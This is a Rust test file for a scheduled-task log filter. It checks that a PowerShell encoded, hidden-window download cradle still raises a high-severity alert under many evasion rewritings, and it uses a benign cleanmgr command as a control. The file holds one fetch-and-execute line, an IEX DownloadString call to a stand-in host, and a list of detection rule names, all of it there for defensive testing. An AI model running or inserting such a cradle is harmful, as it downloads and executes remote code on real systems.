//! One malicious command, rewritten in every way we know of: the verdict must not change.
//!
//! The command is an encoded download cradle that PowerShell runs in a hidden window. Each row of
//! testdata/evasion.ndjson says in words what is rewritten, and gives the rewritten part: `command` and
//! `arguments` of the action, the whole `content` of the task, or the whole `record`.

use schtag_tests::catalogue;
use schtag_tests::filter::{self, Filter};
use schtag_tests::samples::{Sample, Shape, escape_xml};
use schtag_tests::table;

/// The script in the encoded command.
const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')";

/// The rules that every rewriting must match. A detour (forfiles, mshta, ...) may add its own.
const CORE: &[&str] = &[
    "powershell-in-task",
    "powershell-encoded-command",
    "powershell-hidden-window",
    "powershell-download-cradle",
    "powershell-execute-string",
    "url-in-action",
];

struct Row {
    rewriting: String,
    record: String,
}

fn rows() -> Vec<(String, Row)> {
    table::testdata("evasion.ndjson", |mut row| {
        Ok(Row { rewriting: row.need("rewriting")?, record: table::record(row)? })
    })
    .unwrap()
}

fn judge(row: &Row, rules: &[catalogue::Rule], filter: &mut Filter) -> Result<(), String> {
    let tag = filter.tag(&row.record, 0)?;
    if (&tag["verdict"], &tag["severity"]) != (&"alert".into(), &"high".into()) {
        return Err(format!("verdict {}, severity {}", tag["verdict"], tag["severity"]));
    }
    let found = catalogue::slugs(rules, &tag);
    let missing: Vec<&&str> = CORE.iter().filter(|rule| !found.iter().any(|f| f == *rule)).collect();
    if !missing.is_empty() {
        return Err(format!("not matched: {missing:?}"));
    }
    let decoded = tag["task"]["decoded"].as_array().into_iter().flatten();
    if decoded.clone().all(|text| text != SCRIPT) {
        return Err(format!("decoded: {}", tag["task"]["decoded"]));
    }
    Ok(())
}

#[test]
fn every_rewriting_gets_the_same_verdict() {
    let rules = catalogue::rules().unwrap();
    let mut filter = Filter::new(&filter::module().unwrap()).unwrap();
    let rows = rows();
    assert!(rows.len() >= 60);
    let mut failures = Vec::new();
    for (place, row) in &rows {
        if let Err(what) = judge(row, &rules, &mut filter) {
            failures.push(format!("{place} ({}): {what}", row.rewriting));
        }
    }
    assert!(failures.is_empty(), "{} of {}:\n{}", failures.len(), rows.len(), failures.join("\n"));
}

/// The control: the same dress with nothing malicious in it gets no tag, so that the table shows what is
/// recognised and not that everything is.
#[test]
fn the_same_rewritings_of_a_benign_command_are_not_alerts() {
    let module = filter::module().unwrap();
    for (command, arguments) in [
        ("%windir%\\system32\\cleanmgr.exe", "/autoclean /d %systemdrive%"),
        ("\"C:\\Windows\\System32\\cleanmgr.exe\"", "\"/autoclean\""),
        ("C:/Windows/System32/cleanmgr.exe", "/autoclean"),
        ("C:\\Windows\\System32\\cleanmgr.exe /autoclean", ""),
        ("cmd.exe", "/c cleanmgr /autoclean"),
        ("cmd.exe", "/c start \"\" cleanmgr /autoclean"),
    ] {
        for content in [
            Sample::new(4698, command, arguments).content,
            escape_xml(&Sample::new(4698, command, arguments).content),
        ] {
            for shape in Shape::ALL {
                let record = Sample { content: content.clone(), ..Sample::new(4698, "", "") }.record(shape);
                // Each by itself: one task with another command each time would be a sequence.
                let tag = Filter::new(&module).unwrap().tag(&record, 0).unwrap();
                assert!(tag.is_null(), "{command} {arguments} as {shape:?}: {tag}");
            }
        }
    }
}
